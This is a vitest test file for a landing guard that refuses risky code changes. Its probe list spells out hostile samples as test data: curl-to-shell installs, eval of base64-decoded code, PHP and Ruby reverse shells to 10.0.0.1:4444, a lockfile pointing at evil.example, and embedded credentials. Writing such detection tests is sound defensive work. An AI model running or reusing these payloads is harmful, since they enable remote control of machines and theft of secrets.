import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { guardChange, guardSettings, type GuardedFile } from '../../src/delivery/landing-guard.js';
import { GUARD_RULE_IDS } from '../../src/policy/index.js';
import { GUARD_CORPUS, type GuardCase } from './guard-corpus.js';

function filesOf(item: GuardCase): GuardedFile[] {
  return Object.entries(item.change).map(([path, text]) => ({ path, text, readOld: async () => item.base?.[path] ?? null }));
}

const readBaseOf = (item: GuardCase) => async (path: string) => (item.base?.[path] !== undefined ? Buffer.from(item.base[path]) : null);

describe('the landing guard over the corpus', () => {
  it('documents every rule in docs/security.md: what it reads, catches and cannot catch', () => {
    const doc = readFileSync('docs/security.md', 'utf8');
    const section = doc.slice(doc.indexOf('## The landing guard'), doc.indexOf('## The OS sandbox'));
    // A row: the rule, then three cells (a backslash-escaped pipe belongs to its cell).
    for (const rule of GUARD_RULE_IDS) expect(section, rule).toMatch(new RegExp(`^\\| \`${rule}\` \\|(?:(?:[^|\\\\]|\\\\.)+\\|){3}$`, 'm'));
  });

  it('covers every guard rule with a threat, and has ordinary near-misses', () => {
    const refusedBy = new Set(GUARD_CORPUS.flatMap((c) => (c.expect === 'lands' ? [] : [c.expect.refused])));
    for (const rule of GUARD_RULE_IDS) expect(refusedBy.has(rule), rule).toBe(true);
    expect(GUARD_CORPUS.filter((c) => c.expect === 'lands').length).toBeGreaterThanOrEqual(15);
  });

  for (const item of GUARD_CORPUS.filter((c) => !(c.expect !== 'lands' && c.expect.refused === 'protected-path'))) {
    it(`${item.expect === 'lands' ? 'lands' : `refuses (${item.expect.refused})`}: ${item.name}`, async () => {
      const findings = await guardChange(filesOf(item), guardSettings('refuse', []), readBaseOf(item));
      if (item.expect === 'lands') {
        expect(findings).toEqual([]);
      } else {
        expect(findings.map((f) => f.rule)).toContain(item.expect.refused);
        expect(findings.every((f) => f.verdict === 'refuse' && f.path !== null)).toBe(true);
      }
    });
  }
});

/** Variants found while probing the rules: evasions that must be caught, ordinary text that must land. */
const PROBES: readonly (readonly [path: string, text: string, rule: string | null])[] = [
  ['install.sh', 'curl -s https://x.example/i | /bin/sh\n', 'pipe-to-shell'],
  ['install.sh', 'curl -s https://x.example/i | sudo -E bash -\n', 'pipe-to-shell'],
  ['install.sh', 'curl -s https://x.example/i | tee /tmp/i.sh | bash\n', 'pipe-to-shell'],
  ['src/a.js', "eval(new Buffer(x, 'base64').toString());\n", 'decoded-code'],
  ['src/a.js', 'setTimeout(atob(payload), 10);\n', 'decoded-code'],
  ['src/a.py', "exec(''.join(map(chr, [112, 114])))\n", 'decoded-code'],
  ['src/a.php', '<?php $s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>\n', 'reverse-shell'],
  ['src/a.rb', 'c=TCPSocket.new("10.0.0.1",4444);exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",c,c,c)\n', 'reverse-shell'],
  ['src/a.ts', "export const s = '\u00e9\uFE01\uFE02';\n", 'invisible-character'],
  ['package-lock.json', JSON.stringify({ lockfileVersion: 3, packages: { '': {}, 'node_modules/x': { version: '1.0.0', resolved: 'https://registry.npmjs.org@evil.example/x.tgz', integrity: 'sha512-x' } } }), 'lockfile-source'],
  ['config/db.yml', 'url: postgres://admin:S3cr3tPw9@prod-db.acme.internal:5432/app\n', 'credential'],
  ['docs/guide.mdx', '# Install\n\n```sh\ncurl -fsSL https://get.example.dev | sh\n```\n', null],
  ['docs/index.html', '<pre><code>curl -fsSL https://get.example.dev | sh</code></pre>\n', null],
  ['INSTALL', 'Run: curl -fsSL https://get.example.dev | sh\n', null],
  ['setup.sh', 'curl -fsSL https://api.github.com/repos/a/b/releases/latest | jq -r .tag_name\ncurl -s https://x.example/key.asc | gpg --dearmor > k.gpg\ncurl -sL https://x.example/t.tgz | tar -xz\n', null],
  ['src/net.js', "const { exec } = require('child_process');\nexec('ls -la', (e, out) => console.log(out));\n", null],
  ['src/re.js', 'const m = /x/g.exec(str); model.eval(); cursor.execute(sql);\n', null],
  ['config/db.yml', 'url: postgres://app:${DB_PASSWORD}@prod-db.acme.internal:5432/app\n', null],
  ['docker-compose.yml', 'DATABASE_URL: postgres://app:app@db:5432/app\n', null],
  ['src/i18n.ts', "export const ko = '안녕하세요 세계';\nexport const th = 'สวัสดี\u200Bครับ';\nexport const hi = 'क्\u200Dष';\n", null],
  ['src/math.ts', "export const sym = '\u2264\uFE00';\n", null],
];

describe('probes of the rules', () => {
  for (const [path, text, rule] of PROBES) {
    it(`${rule ? `refuses (${rule})` : 'lands'}: ${path} ${JSON.stringify(text.slice(0, 60))}`, async () => {
      const rules = (await guardChange([{ path, text, readOld: async () => null }], guardSettings('refuse', []), async () => null)).map((f) => f.rule);
      if (rule) expect(rules).toContain(rule);
      else expect(rules).toEqual([]);
    });
  }
});

describe('what the guard says and what accepts it', () => {
  const threat = (name: string) => GUARD_CORPUS.find((c) => c.name === name)!;

  it('names file, line, rule and why, and the key that accepts it; never the secret', async () => {
    const item = threat('a GitHub token in source');
    const [finding] = await guardChange(filesOf(item), guardSettings('refuse', []), readBaseOf(item));
    expect(finding).toEqual({
      rule: 'credential',
      path: 'src/config.ts',
      line: 1,
      why: "a GitHub token (found by secretlint's github rule; the value is not shown): once pushed, it is in the history for good",
      accept: '`changes.guard_allow: [credential]` (the rule) or `["src/config.ts"]` (the file) accepts it',
      verdict: 'refuse',
    });
    expect(JSON.stringify(finding)).not.toMatch(/ghp_/);
  });

  it('warns instead of refusing with changes.guard: warn, and accepts a rule id or a path glob', async () => {
    const item = threat('eval of atob');
    expect((await guardChange(filesOf(item), guardSettings('warn', []), readBaseOf(item))).map((f) => f.verdict)).toEqual(['warn']);
    expect((await guardChange(filesOf(item), guardSettings('refuse', ['decoded-code']), readBaseOf(item))).map((f) => f.verdict)).toEqual(['accepted']);
    expect((await guardChange(filesOf(item), guardSettings('refuse', ['/src/**']), readBaseOf(item))).map((f) => f.verdict)).toEqual(['accepted']);
    expect((await guardChange(filesOf(item), guardSettings('refuse', ['credential', 'test/**']), readBaseOf(item))).map((f) => f.verdict)).toEqual(['refuse']);
  });

  it('judges only what the change adds: a lifecycle script or a line already in the base is not the change', async () => {
    const base = '{ "scripts": { "postinstall": "node setup.js" } }\n';
    const after = '{ "scripts": { "postinstall": "node setup.js", "test": "vitest" } }\n';
    expect(await guardChange([{ path: 'package.json', text: after, readOld: async () => base }], guardSettings('refuse', []), async () => null)).toEqual([]);
    const old = 'eval(atob(x)); // legacy\n';
    expect(await guardChange([{ path: 'src/old.js', text: `${old}export const y = 1;\n`, readOld: async () => old }], guardSettings('refuse', []), async () => null)).toEqual([]);
    // A new copy of an old line is new.
    expect(await guardChange([{ path: 'src/old.js', text: `${old}${old}`, readOld: async () => old }], guardSettings('refuse', []), async () => null)).toHaveLength(1);
  });

  it('refuses a file a rule cannot read (the base could not be read): nothing lands unchecked', async () => {
    const findings = await guardChange(
      [{ path: 'package.json', text: '{ "scripts": { "postinstall": "x" } }\n', readOld: async () => Promise.reject(new Error('the API answered 502')) }],
      guardSettings('refuse', []),
      async () => null,
    );
    expect(findings).toMatchObject([{ rule: 'lifecycle-script', verdict: 'refuse', why: 'the rule could not read this file (the API answered 502), and nothing lands unchecked' }]);
  });

  it('leaves nothing on the performance timeline (secretlint would mark every rule of every file, and search its marks at each one)', async () => {
    const before = performance.getEntriesByType('mark').length;
    const files = Array.from({ length: 50 }, (_, i) => ({ path: `src/m${i}.ts`, text: `export const m${i} = ${i};\n`, readOld: async () => null }));
    expect(await guardChange(files, guardSettings('refuse', []), async () => null)).toEqual([]);
    expect(performance.getEntriesByType('mark').length).toBe(before);
  });

  it('does not obey a secretlint-disable comment in the change', async () => {
    const token = ['ghp', 'R7kQ2mX9pL4vN8wT3yB6cF1hJ5dG0sA2eU7i'].join('_');
    const findings = await guardChange([{ path: 'a.ts', text: `const t = '${token}'; // secretlint-disable-line\n`, readOld: async () => null }], guardSettings('refuse', []), async () => null);
    expect(findings.map((f) => f.rule)).toEqual(['credential']);
  });
});
